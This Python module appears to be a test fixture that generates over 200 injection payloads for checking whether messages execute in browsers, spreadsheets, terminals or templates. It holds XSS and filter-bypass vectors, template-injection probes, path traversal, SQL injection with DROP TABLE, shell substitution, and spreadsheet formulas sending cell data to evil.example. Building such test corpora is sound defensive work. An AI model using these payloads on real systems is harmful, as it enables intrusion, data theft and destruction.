"""What an attacker would write into a message to have it run elsewhere: in a browser, a spreadsheet, a terminal,
a template.

Those for a browser all try the same two things, a dialog and `window.owned`, so that one check shows whether
any of them ran. None holds a control character that properties use as a separator.
"""

from __future__ import annotations

import base64

RUN = "alert(window.owned=1)"

_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "iframe",
    "object data=x",
    "marquee",
    "select autofocus",
    "textarea autofocus",
)
_EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onanimationstart",
    "onpointerenter",
    "onstart",
)
_ELEMENTS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src=data:text/javascript,{run}></script>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>{run}</script >",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<form action=javascript:{run}><button autofocus>x</button></form>",
    "<a href=javascript:{run}>x</a>",
    "<a href='java\tscript:{run}'>x</a>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(javascript:{run})'>",
    "<template><script>{run}</script></template>",
    "<div hx-get=/jobs/ hx-trigger=load hx-on:load={run}>",
    "<div data-hx-get=/jobs/ data-hx-trigger=load>",
    "<div hx-on::after-request={run}>",
    "<div x-data x-init={run}>",
    "<div data-stream=overview data-path=state data-link='javascript:{run}//NAME'>",
    "<div data-chart=rates.in_per_s>",
    "<xss id=x tabindex=1 onfocus={run}></xss>",
    "<img src=`x` onerror={run}>",
    "<img src=x:x onerror\n=\n{run}>",
    "<!--<img src='--><img src=x onerror={run}//'>",
    "<![CDATA[<script>{run}</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{run}</x:script>",
)
_ENDS = (
    "",
    "'",
    '"',
    "'>",
    '">',
    "</title>",
    "</textarea>",
    "</pre>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</td></tr></table>",
    "\\'",
    '\\"',
)
_BEHIND = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    " onmouseover={run} autofocus onfocus={run} x=",
    ";{run}//",
)
_WORDS = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "javascript://%0a{run}",
    "data:text/html,<script>{run}</script>",
    "vbscript:msgbox(1)",
    "';{run}//",
    '";{run}//',
    "${{{run}}}",
    "`${{{run}}}`",
    "{{{{ 7 * 7 }}}}",
    "{{% debug %}}{{% load log %}}",
    "{{{{ settings.SECRET_KEY }}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "#{{7*7}}",
    "<%= 7*7 %>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "%3Cscript%3E{run}%3C/script%3E",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    '{{"a": "</script><script>{run}</script>"}}',
    '["<img src=x onerror={run}>"]',
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>{run}</script>",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "' OR 1=1 --",
    "'; DROP TABLE mqadmin_apitoken; --",
    "$(id)",
    "`id`",
    "| id",
    "\x1b]0;owned\x07\x1b[2J",
    "\u202egnp.exe",
    "\u200b<script>{run}</script>",
    "\ufeff<script>{run}</script>",
    "\u2028{run}\u2029",
    "constructor",
    "__proto__",
    "NAME",
)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "-1",
    "=",
)


def _browser() -> list[str]:
    handlers = [f"<{tag} {event}={{run}}>" for tag in _TAGS for event in _EVENTS]
    behind = [end + rest for end in _ENDS for rest in _BEHIND]
    coded = [
        f"<iframe src=data:text/html;base64,{base64.b64encode(f'<script>parent.{RUN}</script>'.encode()).decode()}></iframe>"
    ]
    return (
        [text.replace("{run}", RUN) for text in (*handlers, *_ELEMENTS, *behind)]
        + coded
        + [text.format(run=RUN) for text in _WORDS]
    )


PAYLOADS = tuple(dict.fromkeys((*_browser(), *FORMULAS)))
assert len(PAYLOADS) >= 200 and not any(separator in text for text in PAYLOADS for separator in "\0\1\2")
